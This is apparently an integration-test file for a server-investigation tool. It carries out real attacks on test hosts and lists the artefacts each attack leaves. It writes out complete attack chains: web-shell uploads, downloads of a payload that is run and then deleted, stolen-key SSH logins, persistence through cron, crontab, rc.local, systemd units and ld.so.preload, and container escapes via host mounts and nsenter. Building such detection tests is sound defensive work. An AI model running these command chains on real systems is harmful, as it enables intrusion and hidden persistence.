# Copyright: bulwark.servers contributors
# GNU General Public License v3.0+ (see LICENSES/GPL-3.0-or-later.txt or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""Attacks that are done for real on a host of the tests, each in two variants, and what they leave."""

from __future__ import annotations

import dataclasses
import re
import shlex
import typing as t

from tests.integration.investigation._attacked_host import Host
from tests.integration.investigation._noise import AnyHost
from tests.integration.investigation._planted import Artefact
from tests.integration.investigation._world import World
from tests.support import waiting
from tests.support.network import Namespace


@dataclasses.dataclass(frozen=True)
class Planted:
    """alerts: of findings about the attack, the best to begin with first. about: is in the subject of such a finding.

    subject: what an administrator begins with if the scan has no such finding. also: what belongs to it as well.
    """

    artefacts: t.Sequence[Artefact]
    alerts: t.Sequence[str]
    subject: t.Mapping[str, str]
    also: t.Sequence[Artefact] = ()
    about: str = ""


def _files(*paths: str) -> list[Artefact]:
    return [Artefact("file", f"^file:{re.escape(path)}$") for path in paths]


def _processes(*patterns: str) -> list[Artefact]:
    return [Artefact("process", pattern) for pattern in patterns]


def _addresses(*addresses: str) -> list[Artefact]:
    return [Artefact("address", f"^address:{re.escape(address)}$") for address in addresses]


def _startups(*paths: str) -> list[Artefact]:
    return [Artefact("startup", f"^startup:{re.escape(path)}$") for path in paths]


def _sessions(user: str, source: str) -> list[Artefact]:
    return [Artefact("session", f"^{user} from {re.escape(source)} ")]


def web_shell(host: Host, world: World, evil: Namespace, pool: Namespace) -> Planted:
    """Upload a script to a web server and let it bring a program, which is removed while it runs."""
    shell = (
        f"cd /dev/shm && curl -s -o kdevtmp http://{pool.address[4]}:8080/waiting && chmod 700 kdevtmp && "
        f"(setsid ./kdevtmp {pool.address[4]} 3333 > /dev/null 2>&1 &) ; sleep 0.3; rm -f /dev/shm/kdevtmp\n"
        "printf 'Content-Type: text/plain\\r\\n\\r\\n'; id\n"
    )
    site = f"http://{host.address}"
    world.curl(evil, "--data-binary", shell, f"{site}/cgi-bin/upload.cgi?name=banner.cgi")
    world.curl(evil, f"{site}/uploads/banner.cgi")
    artefacts = [
        *_processes(r"^lighttpd ", r"banner\.cgi", r"curl .*kdevtmp", r"chmod .*kdevtmp", r"^kdevtmp .* 3333"),
        *_processes(r"^rm .*kdevtmp", "upload.cgi"),
        *_files("/dev/shm/kdevtmp", "/var/www/html/uploads/banner.cgi"),
        *_addresses(pool.address[4], evil.address[4]),
    ]
    also = [*_files("/usr/lib/cgi-bin/upload.cgi"), *_processes("^(sed|tr|cat|id|sleep|setsid|printf|sh) ")]
    return Planted(artefacts, ("execution_suspicious_location",), {"path": "/dev/shm/kdevtmp"}, also, "kdevtmp")


def web_shell_by_python(host: Host, world: World, evil: Namespace, pool: Namespace) -> Planted:
    """Let a CGI script that was uploaded fetch a program with Python into a hidden directory, and start it."""
    fetch = (
        "import os,urllib.request as u; os.makedirs('/var/tmp/.ICE-unix/x', exist_ok=True); "
        f"open('/var/tmp/.ICE-unix/x/crond','wb').write(u.urlopen('http://{pool.address[4]}:8080/waiting').read()); "
        "os.chmod('/var/tmp/.ICE-unix/x/crond',0o755)"
    )
    shell = (
        "printf 'Content-Type: text/plain\\r\\n\\r\\n'\n"
        f'/usr/bin/python3 -c "{fetch}"\n'
        f"nohup /var/tmp/.ICE-unix/x/crond {pool.address[4]} 14444 > /dev/null 2>&1 &\n"
        "sleep 0.3; rm -rf /var/tmp/.ICE-unix/x\n"
    )
    site = f"http://{host.address}"
    world.curl(evil, "--data-binary", shell, f"{site}/cgi-bin/upload.cgi?name=thumb7.cgi")
    world.curl(evil, f"{site}/uploads/thumb7.cgi")
    artefacts = [
        *_processes(r"^lighttpd ", r"thumb7\.cgi", r"^python3.*urllib", r"^crond .* 14444", r"^rm .*ICE-unix"),
        *_processes("upload.cgi"),
        *_files("/var/tmp/.ICE-unix/x/crond", "/var/www/html/uploads/thumb7.cgi"),
        *_addresses(pool.address[4], evil.address[4]),
    ]
    also = [
        *_files("/usr/lib/cgi-bin/upload.cgi", "/var/tmp/.ICE-unix/x"),
        *_processes("^(sed|tr|cat|sleep|nohup|sh) "),
    ]
    return Planted(
        artefacts, ("execution_suspicious_location",), {"path": "/var/tmp/.ICE-unix/x/crond"}, also, "ICE-unix"
    )


def key_and_cron(host: Host, world: World, evil: Namespace, pool: Namespace) -> Planted:
    """Sign in with the administrator's stolen key, add another one, and let cron start a script."""
    world.ssh(evil, host.address, "alice", "alice", f"echo '{world.public('intruder')}' >> ~/.ssh/authorized_keys")
    script = f"#!/bin/sh\n/usr/local/.fonts/fc-scan {pool.address[4]} 4444 &\n"
    (world.served / "run.sh").write_text(script)
    commands = (
        "sudo mkdir -p /usr/local/.fonts",
        f"sudo curl -s -o /usr/local/.fonts/run.sh http://{pool.address[4]}:8080/run.sh",
        f"sudo curl -s -o /usr/local/.fonts/fc-scan http://{pool.address[4]}:8080/waiting",
        "sudo chmod 755 /usr/local/.fonts/run.sh /usr/local/.fonts/fc-scan",
        "echo '* * * * * root /usr/local/.fonts/run.sh' | sudo tee /etc/cron.d/fontconfig > /dev/null",
    )
    world.ssh(evil, host.address, "alice", "intruder", "; ".join(commands))
    artefacts = [
        *_sessions("alice", evil.address[4]),
        *_addresses(evil.address[4], pool.address[4]),
        *_startups("/home/alice/.ssh/authorized_keys", "/etc/cron.d/fontconfig"),
        *_files("/usr/local/.fonts/run.sh", "/usr/local/.fonts/fc-scan"),
        *_processes(r"^curl .*run\.sh", r"^curl .*fc-scan", r"^tee .*fontconfig", r"^chmod .*fonts", r"^mkdir .*fonts"),
        *_processes(r"sh .*/\.fonts/run\.sh", r"^fc-scan .*4444", r"^sudo .*curl"),
    ]
    also = [*_files("/etc/cron.d/fontconfig", "/home/alice/.ssh/authorized_keys"), *_processes("fonts|intruder|^cron ")]
    return Planted(artefacts, ("cron_job_written",), {"path": "/etc/cron.d/fontconfig"}, also, "fontconfig")


def key_and_crontab(host: Host, world: World, evil: Namespace, pool: Namespace) -> Planted:
    """Sign in as the account of the deployment, add a key for the next time, and use the account's own crontab."""
    (world.served / "sync").write_text(f"#!/bin/bash\nexec /srv/app/.git-cache/node {pool.address[4]} 9001\n")
    commands = (
        "mkdir -m 700 /srv/app/.git-cache && cd /srv/app/.git-cache",
        f"curl -sO http://{pool.address[4]}:8080/sync",
        f"curl -s http://{pool.address[4]}:8080/waiting -o node",
        "chmod +x node sync",
        "(crontab -l 2>/dev/null; echo '* * * * * /srv/app/.git-cache/sync') | crontab -",
        f"printf '%s\\n' '{world.public('second')}' >> ~/.ssh/authorized_keys",
    )
    world.ssh(evil, host.address, "deploy", "deploy", " && ".join(commands))
    world.ssh(evil, host.address, "deploy", "second", "ls -la /srv/app/.git-cache; id")
    artefacts = [
        *_sessions("deploy", evil.address[4]),
        *_addresses(evil.address[4], pool.address[4]),
        *_startups("/home/deploy/.ssh/authorized_keys", "/var/spool/cron/crontabs/deploy"),
        *_files("/srv/app/.git-cache/sync", "/srv/app/.git-cache/node"),
        *_processes(r"^curl .*sync", r"^curl .*waiting", r"^crontab ", r"^chmod .*node", r"^mkdir .*git-cache"),
        *_processes(r"^node .*9001", "ls .*git-cache"),
    ]
    also = [
        *_files("/var/spool/cron/crontabs/deploy", "/home/deploy/.ssh/authorized_keys"),
        *_processes("git-cache|waiting|sync|crontab|^cron "),
    ]
    return Planted(artefacts, ("download_and_run",), {"path": "/srv/app/.git-cache/node"}, also, "git-cache/node")


def host_mount(host: Host, world: World, _evil: Namespace, pool: Namespace) -> Planted:
    """In a container that has the host's files, make cron on the host start a program, and stay."""
    commands = (
        "mkdir -p /host/var/lib/.kube",
        "cp /served/waiting /host/var/lib/.kube/kubelet-sync",
        "chmod 755 /host/var/lib/.kube/kubelet-sync",
        f"echo '* * * * * root /var/lib/.kube/kubelet-sync {pool.address[4]} 5555' > /host/etc/cron.d/kube-sync",
        "exec sleep 601",
    )
    container = world.container(
        host, ["-v", f"{host.root}:/host", "-v", f"{world.served}:/served:ro"], "; ".join(commands)
    )
    waiting.until(lambda: host.path("/etc/cron.d/kube-sync").exists(), "the container did not write")
    artefacts = [
        Artefact("container", f"^container:{container}"),
        *_startups("/etc/cron.d/kube-sync"),
        *_files("/var/lib/.kube/kubelet-sync"),
        *_processes(r"^cp .*kubelet-sync", r"^chmod .*kubelet-sync", r"^mkdir .*kube", r"^sleep .*601"),
        *_processes(r"^kubelet-sync .*5555"),
        *_addresses(pool.address[4]),
    ]
    also = [*_files("/etc/cron.d/kube-sync"), *_startups(f"/var/lib/docker/containers/{container}/hostconfig.json")]
    also += [*_startups(f"/var/lib/docker/containers/{container}/config.v2.json"), *_processes("kube|^cron ")]
    also += [
        Artefact("file", r"^file:(/host)?/(var/lib/\.kube|etc/cron\.d/kube-sync)"),
        Artefact("file", "^file:/served"),
    ]
    return Planted(artefacts, ("cron_job_written",), {"path": "/etc/cron.d/kube-sync"}, also, "kube-sync")


def entered_namespaces(host: Host, world: World, _evil: Namespace, pool: Namespace) -> Planted:
    """From a privileged container that sees the host's processes, enter the host and leave a program at boot."""
    inside = (
        "mkdir -p /etc/ld-cache.d",
        f"curl -s -o /etc/ld-cache.d/udevd http://{pool.address[4]}:8080/waiting",
        "chmod 700 /etc/ld-cache.d/udevd",
        "printf '#!/bin/sh\\n/etc/ld-cache.d/udevd POOL 6666 &\\n' > /etc/rc.local",
        "chmod 755 /etc/rc.local",
        "(setsid /etc/rc.local > /dev/null 2>&1 &)",
    )
    script = "; ".join(inside).replace("POOL", pool.address[4])
    enter = f"nsenter --target {host.pid} --mount --net --root --wd=/ -- /bin/sh -c {shlex.quote(script)}"
    container = world.container(host, ["--privileged", "--pid", "host"], f"{enter}; exec sleep 602")
    waiting.until(lambda: "udevd" in host.run("ps -eo comm=").split(), "the container did not enter the host")
    artefacts = [
        Artefact("container", f"^container:{container}"),
        *_startups("/etc/rc.local"),
        *_files("/etc/ld-cache.d/udevd"),
        *_processes(r"^nsenter ", r"^curl .*ld-cache", r"^chmod .*udevd", r"^mkdir .*ld-cache", r"^sleep .*602"),
        *_processes(r"^udevd .*6666", r"rc\.local"),
        *_addresses(pool.address[4]),
    ]
    also = [
        *_files("/etc/rc.local", "/etc/ld-cache.d", "/usr/lib/systemd/system/rc-local.service"),
        *_startups(f"/var/lib/docker/containers/{container}/hostconfig.json"),
    ]
    also += [*_startups(f"/var/lib/docker/containers/{container}/config.v2.json"), *_processes("ld-cache|nsenter")]
    return Planted(artefacts, ("container_escape_nsenter",), {"path": "/etc/rc.local"}, also)


def unit_with_library(host: AnyHost, world: World, evil: Namespace, pool: Namespace) -> Planted:
    """Sign in as the account of the deployment, and leave a unit whose program gets a library by its environment."""
    library, program = "/usr/lib/x86_64-linux-gnu/libnss_mcache.so.2", "/usr/local/libexec/dbus-broker-log"
    unit = f"""[Unit]\nDescription=D-Bus log\n[Service]\nEnvironment=LD_PRELOAD={library}
ExecStart={program} {pool.address[4]} 7777\nRestart=always\n[Install]\nWantedBy=multi-user.target\n"""
    (world.served / "unit").write_text(unit)
    site = f"http://{pool.address[4]}:8080"
    commands = (
        f"cd /tmp && curl -sfO {site}/library.so && curl -sfO {site}/waiting && curl -sfO {site}/unit",
        f"sudo install -m 644 library.so {library}",
        f"sudo install -D -m 755 waiting {program}",
        "sudo install -m 644 unit /etc/systemd/system/dbus-log.service",
        "sudo systemctl daemon-reload && sudo systemctl enable --now dbus-log.service 2> /dev/null",
        "rm -f library.so waiting unit",
    )
    world.ssh(evil, host.address, "deploy", "deploy", " && ".join(commands))
    artefacts = [
        *_sessions("deploy", evil.address[4]),
        *_addresses(evil.address[4], pool.address[4]),
        *_startups("/etc/systemd/system/dbus-log.service"),
        *_files(library, program),
        *_processes(r"^dbus-broker-log .*7777"),
    ]
    wants = "/etc/systemd/system/multi-user.target.wants/dbus-log.service"
    also = [*_files("/etc/systemd/system/dbus-log.service", wants), *_startups(wants)]
    also += _startups("/home/deploy/.ssh/authorized_keys")
    return Planted(artefacts, ("fileless_attack_behavior",), {"path": library}, also, program)


def preloaded_everywhere(host: AnyHost, world: World, evil: Namespace, pool: Namespace) -> Planted:
    """Bring a library into each program, and a timer that starts a script from a hidden directory."""
    library, directory = "/var/lib/misc/.libz.so.1", "/var/cache/.fc"
    service = f"[Service]\nType=forking\nExecStart={directory}/sync.sh\n"
    timer = "[Timer]\nOnActiveSec=1\nOnUnitActiveSec=600\nUnit=fc-sync.service\n[Install]\nWantedBy=timers.target\n"
    script = f"#!/bin/sh\n{directory}/fc-cached {pool.address[4]} 8888 &\n"
    for name, text in (("service", service), ("timer", timer), ("sync.sh", script), ("preload", f"{library}\n")):
        (world.served / name).write_text(text)
    site = f"http://{pool.address[4]}:8080"
    commands = (
        f"echo '{world.public('intruder')}' >> ~/.ssh/authorized_keys",
        f"sudo mkdir -p {directory} && cd {directory}",
        f"sudo curl -sf -o fc-cached {site}/waiting && sudo curl -sf -o sync.sh {site}/sync.sh",
        "sudo chmod 755 fc-cached sync.sh",
        f"sudo curl -sf -o {library} {site}/library.so",
        f"sudo curl -sf -o /etc/systemd/system/fc-sync.service {site}/service",
        f"sudo curl -sf -o /etc/systemd/system/fc-sync.timer {site}/timer",
        f"sudo curl -sf -o /etc/ld.so.preload {site}/preload",
        "sudo systemctl daemon-reload && sudo systemctl enable --now fc-sync.timer 2> /dev/null",
    )
    world.ssh(evil, host.address, "alice", "alice", " && ".join(commands))
    artefacts = [
        *_sessions("alice", evil.address[4]),
        *_addresses(evil.address[4], pool.address[4]),
        *_startups("/etc/ld.so.preload", "/etc/systemd/system/fc-sync.service", "/etc/systemd/system/fc-sync.timer"),
        *_startups("/home/alice/.ssh/authorized_keys"),
        *_files(library, f"{directory}/sync.sh", f"{directory}/fc-cached"),
        *_processes(r"^fc-cached .*8888"),
    ]
    wants = "/etc/systemd/system/timers.target.wants/fc-sync.timer"
    also = [
        *_files("/etc/ld.so.preload", wants, "/home/alice/.ssh/authorized_keys"),
        *_files("/etc/systemd/system/fc-sync.service", "/etc/systemd/system/fc-sync.timer"),
        *_startups(wants),
    ]
    return Planted(artefacts, ("fileless_attack_behavior",), {"path": f"{directory}/fc-cached"}, also, "fc-cached")


def await_job(host: Host, name: str) -> None:
    """Wait until cron, which looks once a minute, has started what was planted."""

    def is_running() -> bool:
        return name in host.run("ps -eo comm=").split()

    waiting.until(is_running, f"cron on {host.name} did not start {name}")
